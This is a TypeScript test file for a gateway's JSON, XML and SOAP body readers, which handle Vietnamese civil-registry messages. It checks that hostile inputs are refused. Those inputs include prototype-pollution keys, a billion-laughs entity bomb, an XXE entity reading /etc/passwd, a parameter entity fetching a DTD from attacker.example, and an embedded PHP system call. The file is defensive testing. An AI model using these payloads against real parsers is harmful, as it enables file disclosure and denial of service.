import { describe, it, expect } from 'vitest';
import { readJson } from '../adapters/body-reader.js';
import { decodeUtf8 } from '../src/codec/body-text.js';
import { readXml, readXmlText, screenXmlText, soapBodyElement } from '../src/codec/xml-document.js';
import { GatewayError } from '../src/errors.js';

/** Runs `fn`, expects a MALFORMED_BODY GatewayError with one detail of `detailCode`, returns it. */
function refusal(fn: () => unknown, detailCode: string): GatewayError {
  let caught: unknown;
  try {
    fn();
  } catch (err) {
    caught = err;
  }
  expect(caught).toBeInstanceOf(GatewayError);
  const err = caught as GatewayError;
  expect(err.code).toBe('MALFORMED_BODY');
  expect(err.status).toBe(400);
  expect(err.details).toHaveLength(1);
  expect(err.details[0]).toMatchObject({ path: '', code: detailCode });
  expect(err.details[0]?.message).toEqual(expect.any(String));
  return err;
}

const buf = (s: string) => Buffer.from(s, 'utf8');
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const INVALID_UTF8 = Buffer.from([0xc3, 0x28]); // a two-byte lead followed by ASCII

const goodXml = `<?xml version="1.0" encoding="UTF-8"?>
<KhaiSinh>
  <messageId>m1</messageId>
  <hoTich>
    <nksHoTen>Nguyễn Văn A</nksHoTen>
    <ghiChu>Bố &amp; mẹ &lt;đã ký&gt; &#272;&#x1EA1;t &amp;lt;</ghiChu>
    <moTa><![CDATA[<b>giữ nguyên</b> & không giải mã &amp;]]></moTa>
    <noiDangKy>
      <maTinh>08</maTinh>
      <maHuyen/>
      <maXa></maXa>
    </noiDangKy>
    <con><hoTen>Trẻ 1</hoTen></con>
    <con><hoTen>Trẻ 2</hoTen></con>
  </hoTich>
</KhaiSinh>`;

describe('decodeUtf8', () => {
  it('decodes UTF-8 and drops a leading byte order mark', () => {
    expect(decodeUtf8(Buffer.concat([BOM, buf('Hà Giang')]))).toBe('Hà Giang');
  });

  it('refuses invalid UTF-8 bytes', () => {
    refusal(() => decodeUtf8(INVALID_UTF8), 'INVALID_UTF8');
  });
});

describe('readJson', () => {
  it('reads a good document with Vietnamese text and leading zeros intact', () => {
    const doc = { messageId: 'm1', hoTich: { nksHoTen: 'Nguyễn Văn A', noiDangKy: { maTinh: '08' } }, con: [1, 2] };
    expect(readJson(buf(JSON.stringify(doc)))).toEqual(doc);
  });

  it('accepts a leading byte order mark', () => {
    expect(readJson(Buffer.concat([BOM, buf('{"a":"b"}')]))).toEqual({ a: 'b' });
  });

  it('refuses invalid UTF-8 bytes inside a string', () => {
    refusal(() => readJson(Buffer.concat([buf('{"a":"'), INVALID_UTF8, buf('"}')])), 'INVALID_UTF8');
  });

  it('refuses broken JSON', () => {
    refusal(() => readJson(buf('{"a": 1,')), 'INVALID_JSON');
    refusal(() => readJson(buf('')), 'INVALID_JSON');
  });

  it('refuses a __proto__ key, also when it is written with escapes', () => {
    refusal(() => readJson(buf('{"a": {"__proto__": {"polluted": true}}}')), 'FORBIDDEN_NAME');
    refusal(() => readJson(buf('{"\\u005f_proto__": {"polluted": true}}')), 'FORBIDDEN_NAME');
    refusal(() => readJson(buf('{"constructor": {"prototype": {"polluted": true}}}')), 'FORBIDDEN_NAME');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses 100000 levels of nesting without overflowing the stack', () => {
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    const err = refusal(() => readJson(buf(deep)), 'TOO_DEEP');
    expect(err.details[0]?.message).toContain('32');
    refusal(() => readJson(buf('{"a":'.repeat(100_000))), 'TOO_DEEP');
  });

  it('counts only real brackets, not brackets inside strings or after escaped quotes', () => {
    const text = JSON.stringify({ s: '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[{{{{ \\" [[[[' });
    expect(readJson(buf(text), { maxDepth: 1 })).toEqual(JSON.parse(text));
  });

  it('honours a custom depth limit exactly', () => {
    expect(readJson(buf('[[1]]'), { maxDepth: 2 })).toEqual([[1]]);
    refusal(() => readJson(buf('[[[1]]]'), { maxDepth: 2 }), 'TOO_DEEP');
  });
});

describe('readXml', () => {
  it('reads a good document into nested objects, arrays and strings', () => {
    const { root, value } = readXml(buf(goodXml));
    expect(root).toBe('KhaiSinh');
    expect(value).toEqual({
      messageId: 'm1',
      hoTich: {
        nksHoTen: 'Nguyễn Văn A',
        ghiChu: 'Bố & mẹ <đã ký> Đạt &lt;',
        moTa: '<b>giữ nguyên</b> & không giải mã &amp;',
        noiDangKy: { maTinh: '08' },
        con: [{ hoTen: 'Trẻ 1' }, { hoTen: 'Trẻ 2' }],
      },
    });
    const noiDangKy = (value.hoTich as Record<string, unknown>).noiDangKy as Record<string, unknown>;
    expect(Object.keys(noiDangKy)).toEqual(['maTinh']);
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
    expect(JSON.stringify(value)).not.toContain('#text');
  });

  it('keeps number-like and boolean-like text as strings', () => {
    expect(readXmlText('<X><a>0801</a><b>1e5</b><c>true</c><d>0x10</d></X>').value)
      .toEqual({ a: '0801', b: '1e5', c: 'true', d: '0x10' });
  });

  it('strips namespace prefixes, so a SOAP-style document reads the same', () => {
    const doc = readXmlText('<ns:KhaiSinh xmlns:ns="urn:lienthong"><ns:messageId>m1</ns:messageId></ns:KhaiSinh>');
    expect(doc).toEqual({ root: 'KhaiSinh', value: { messageId: 'm1' } });
  });

  it('reads an empty root as an empty object', () => {
    expect(readXmlText('<KhaiTu/>')).toEqual({ root: 'KhaiTu', value: {} });
  });

  it('accepts a leading byte order mark', () => {
    expect(readXml(Buffer.concat([BOM, buf('<?xml version="1.0"?><A><b>c</b></A>')])).value).toEqual({ b: 'c' });
  });

  it('refuses invalid UTF-8 bytes', () => {
    refusal(() => readXml(Buffer.concat([buf('<A><b>'), INVALID_UTF8, buf('</b></A>')])), 'INVALID_UTF8');
  });

  it('refuses the billion-laughs entity bomb before expanding anything', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, k) =>
        ` <!ENTITY lol${k + 1} "${`&lol${k === 0 ? '' : k};`.repeat(10)}">`),
      ']>',
      '<lolz>&lol9;</lolz>',
    ].join('\n');
    const err = refusal(() => readXml(buf(lol)), 'XML_DTD_FORBIDDEN');
    // Nothing expanded: what comes back is small and holds no "lol" text.
    const echoed = JSON.stringify(err.toBody());
    expect(echoed.length).toBeLessThan(1000);
    expect(echoed).not.toContain('lollol');
  });

  it('refuses an external entity', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
    const err = refusal(() => readXml(buf(xxe)), 'XML_DTD_FORBIDDEN');
    expect(JSON.stringify(err.toBody())).not.toContain('root:');
  });

  it('refuses a parameter entity', () => {
    const pe = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><x>1</x>';
    refusal(() => readXml(buf(pe)), 'XML_DTD_FORBIDDEN');
  });

  it('refuses a DTD whatever its spelling or position', () => {
    refusal(() => readXmlText('<x><!--<!doctype x>--><a>1</a></x>'), 'XML_DTD_FORBIDDEN');
    refusal(() => readXmlText('<x><a><![CDATA[<!ENTITY e "x">]]></a></x>'), 'XML_DTD_FORBIDDEN');
  });

  it('refuses a processing instruction other than the leading XML declaration', () => {
    refusal(() => readXml(buf('<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><A/>')), 'XML_PI_FORBIDDEN');
    refusal(() => readXml(buf('<A><b><?php system("id"); ?></b></A>')), 'XML_PI_FORBIDDEN');
  });

  it('refuses an XML declaration that is not at the very start', () => {
    refusal(() => readXmlText('\n<?xml version="1.0"?><A/>'), 'INVALID_XML');
  });

  it('refuses a UTF-16 encoding declaration, and UTF-16 bytes', () => {
    refusal(() => readXml(buf('<?xml version="1.0" encoding="UTF-16"?><A/>')), 'XML_ENCODING');
    refusal(() => readXml(Buffer.from('<?xml version="1.0"?><A/>', 'utf16le')), 'XML_ENCODING');
    refusal(() => readXml(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<A/>', 'utf16le')])), 'XML_ENCODING');
    expect(readXml(buf("<?xml version='1.0' encoding='utf-8'?><A/>")).root).toBe('A');
  });

  it('refuses 100000 levels of nesting without overflowing the stack', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    refusal(() => readXml(buf(deep)), 'TOO_DEEP');
    refusal(() => readXmlText('<a>'.repeat(33) + '</a>'.repeat(33)), 'TOO_DEEP');
    expect(() => readXmlText('<a>'.repeat(32) + '</a>'.repeat(32))).not.toThrow();
  });

  it('refuses too many elements', () => {
    refusal(() => readXmlText(`<A>${'<b>1</b>'.repeat(20_000)}</A>`), 'TOO_MANY_ELEMENTS');
    refusal(() => readXmlText(`<A>${'<b/>'.repeat(10)}</A>`, { maxElements: 10 }), 'TOO_MANY_ELEMENTS');
    expect(readXmlText(`<A>${'<b>1</b>'.repeat(9)}</A>`, { maxElements: 10 }).value.b).toHaveLength(9);
  });

  it('refuses unclosed and mismatched tags, with the position in the message', () => {
    const err = refusal(() => readXml(buf('<KhaiSinh>\n  <messageId>m1</messageId>\n  <hoTich>')), 'INVALID_XML');
    expect(err.details[0]?.message).toMatch(/<hoTich>.*line 3/);
    const one = refusal(() => readXmlText('<A>\n<b>1</b>'), 'INVALID_XML');
    expect(one.details[0]?.message).toMatch(/line \d+/);
    refusal(() => readXmlText('<A><b>1</c></A>'), 'INVALID_XML');
    refusal(() => readXmlText('<A><b>1</b'), 'INVALID_XML');
  });

  it('refuses two root elements', () => {
    refusal(() => readXmlText('<A><b>1</b></A><B><b>2</b></B>'), 'INVALID_XML');
    refusal(() => readXmlText('<A/><B/>'), 'INVALID_XML');
  });

  it('refuses a root that holds only text, and a body with no element at all', () => {
    refusal(() => readXmlText('<KhaiSinh>hello</KhaiSinh>'), 'INVALID_XML');
    refusal(() => readXmlText(''), 'INVALID_XML');
    refusal(() => readXmlText('just text'), 'INVALID_XML');
  });

  it('refuses mixed content', () => {
    refusal(() => readXmlText('<A><b>text <c>1</c> more</b></A>'), 'XML_MIXED_CONTENT');
    refusal(() => readXmlText('<A>text<b>1</b></A>'), 'XML_MIXED_CONTENT');
  });

  it('refuses element names that could reach Object.prototype', () => {
    refusal(() => readXml(buf('<A><__proto__><polluted>yes</polluted></__proto__></A>')), 'FORBIDDEN_NAME');
    refusal(() => readXmlText('<__proto__><a>1</a></__proto__>'), 'FORBIDDEN_NAME');
    refusal(() => readXmlText('<A><x:constructor xmlns:x="urn:x"><prototype>1</prototype></x:constructor></A>'), 'FORBIDDEN_NAME');
    refusal(() => readXmlText('<A><toString>1</toString></A>'), 'FORBIDDEN_NAME');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses undefined entities and references to non-characters', () => {
    refusal(() => readXmlText('<A><b>&nbsp;</b></A>'), 'INVALID_XML');
    refusal(() => readXmlText('<A><b>&#0;</b></A>'), 'INVALID_XML');
    refusal(() => readXmlText('<A><b>&#xD800;</b></A>'), 'INVALID_XML');
    refusal(() => readXmlText('<A><b>&#;</b></A>'), 'INVALID_XML');
  });

  it('screens without parsing: the same references refused, and a bare & allowed only where XML allows it', () => {
    for (const bad of ['&nbsp;', '&#0;', '&#xD800;', '&#;', 'a & b']) refusal(() => screenXmlText(`<A><b>${bad}</b></A>`), 'INVALID_XML');
    refusal(() => screenXmlText('<!DOCTYPE A [<!ENTITY x "y">]><A>&x;</A>'), 'XML_DTD_FORBIDDEN');
    expect(() => screenXmlText('<A><b>&amp;&lt;&#272;&#x1EA1;</b><c><![CDATA[a & b &nbsp;]]></c><!-- & --></A>')).not.toThrow();
  });

  it('refuses raw control characters', () => {
    refusal(() => readXmlText('<A><b>a\u0000b</b></A>'), 'INVALID_XML');
  });
});

describe('soapBodyElement', () => {
  const NS = 'xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"';
  const envelope = (inside: string) => `<?xml version="1.0" encoding="UTF-8"?>\n<s:Envelope ${NS}>${inside}</s:Envelope>`;

  it('names the one element of the Body, by local name, past white space, comments, a Header and a BOM', () => {
    expect(soapBodyElement(envelope('<s:Body><t:KhaiSinh xmlns:t="urn:t"><a>1</a></t:KhaiSinh></s:Body>'))).toBe('KhaiSinh');
    expect(soapBodyElement(`\ufeff${envelope(`
      <!-- <t:HoSoMotCua/> -->
      <s:Header><t:HoSoMotCua xmlns:t="urn:t"/><x>text <![CDATA[<t:HoSoMotCua/>]]></x></s:Header>
      <s:Body> <!-- <t:HoSoMotCua/> --> <KhaiTu/> </s:Body>
    `)}`)).toBe('KhaiTu');
    expect(soapBodyElement('<Envelope><Body><KhaiSinh attr="<HoSoMotCua>"/></Body></Envelope>')).toBe('KhaiSinh');
  });

  it.each([
    { name: 'a root other than Envelope', text: '<KhaiSinh><a>1</a></KhaiSinh>' },
    { name: 'an Envelope without a Body', text: envelope('<s:Header><HoSoMotCua/></s:Header>') },
    { name: 'an empty Envelope', text: `<s:Envelope ${NS}/>` },
    { name: 'an empty Body', text: envelope('<s:Body/>') },
    { name: 'a Body of white space and comments', text: envelope('<s:Body> <!-- <KhaiSinh/> --> </s:Body>') },
    { name: 'a Fault', text: envelope('<s:Body><s:Fault><faultcode>x</faultcode></s:Fault></s:Body>') },
    { name: 'text in the Body', text: envelope('<s:Body>hello</s:Body>') },
    { name: 'CDATA in the Body', text: envelope('<s:Body><![CDATA[<KhaiSinh/>]]></s:Body>') },
    { name: 'text in the Envelope', text: envelope('hello<s:Body><KhaiSinh/></s:Body>') },
    { name: 'two messages', text: envelope('<s:Body><HoSoMotCua/><KhaiSinh/></s:Body>') },
    { name: 'two Bodies', text: envelope('<s:Body><HoSoMotCua/></s:Body><s:Body><KhaiSinh/></s:Body>') },
    { name: 'a Header after the Body', text: envelope('<s:Body><KhaiSinh/></s:Body><s:Header/>') },
    { name: 'another element in the Envelope', text: envelope('<HoSoMotCua/><s:Body><KhaiSinh/></s:Body>') },
  ])('refuses $name', ({ text }) => {
    refusal(() => soapBodyElement(text), 'SOAP_ENVELOPE');
  });

  it('ends on text it cannot read, without a hang', () => {
    for (const broken of ['<s:Envelope><s:Body><KhaiSinh', '<s:Envelope><!-- <s:Body>', '<', '', '</a></b><s:Envelope>']) {
      expect(() => soapBodyElement(broken)).toThrow(GatewayError);
    }
  });
});
